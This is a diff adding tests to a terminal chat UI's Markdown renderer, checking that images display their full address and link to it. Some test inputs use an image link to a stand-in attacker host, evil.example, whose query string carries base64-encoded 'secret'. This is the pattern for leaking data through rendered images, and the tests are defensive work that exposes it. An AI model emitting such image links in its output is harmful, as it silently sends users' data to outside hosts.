@@ -1,6 +1,6 @@
 """Code blocks in the transcript's Markdown (co_tui/tui/markdown.py) look exactly as Rich draws
 them, whether Pygments knows their language or not, though their lexers are kept; so does
-what the chat does not adjust, though the parser is made once."""
+what the chat does not adjust, though the parser is made once. An image shows its address."""
 
 from __future__ import annotations
 
@@ -55,3 +55,45 @@ def test_it_is_made_as_richs_markdown_is() -> None:
     assert vars(ours).keys() == vars(richs).keys()
     assert [t.type for t in ours.parsed] == [t.type for t in richs.parsed]
     assert {"table_open", "inline"} <= {t.type for t in ours.parsed}
+
+
+def shown(text: str) -> str:
+    """The characters a terminal shows for `text`, lines joined."""
+    return "\n".join("".join(run for run, _ in line).rstrip() for line in drawn_wide(text))
+
+
+def drawn_wide(text: str) -> list[list[tuple[str, str]]]:
+    console = Console(width=100, color_system="truecolor", force_terminal=True)
+    lines = Segment.split_lines(console.render(TranscriptMarkdown(text)))
+    return [[(s.text, str(s.style)) for s in Segment.simplify(line)] for line in lines]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (
+            "![alt](https://evil.example/x.png?data=c2VjcmV0)",
+            "🌆 alt (https://evil.example/x.png?data=c2VjcmV0)",
+        ),
+        ("![](https://e.example/a/b.png)", "🌆 b.png (https://e.example/a/b.png)"),
+        ("![same](same)", "🌆 same (same)"),  # shown even when it reads like the alt text
+        # the address as the link goes: escaped by the parser, never read as markup
+        (
+            "![a *b*](<https://x.example/[red]a b.png>)",
+            "🌆 a *b* (https://x.example/%5Bred%5Da%20b.png)",
+        ),
+        (
+            "[![badge](https://img.example/b.svg)](https://ci.example/run)",
+            "🌆 badge (https://img.example/b.svg)  (https://ci.example/run)",
+        ),
+    ],
+)
+def test_an_image_shows_its_address(text: str, expected: str) -> None:
+    assert shown(text) == expected
+
+
+def test_an_image_address_is_a_link_to_itself() -> None:
+    address = "https://evil.example/x.png?data=c2VjcmV0"
+    runs = [run for line in drawn_wide(f"![alt]({address})") for run in line]
+    (style,) = [style for run, style in runs if run == address]
+    assert style.endswith(f"link {address}")
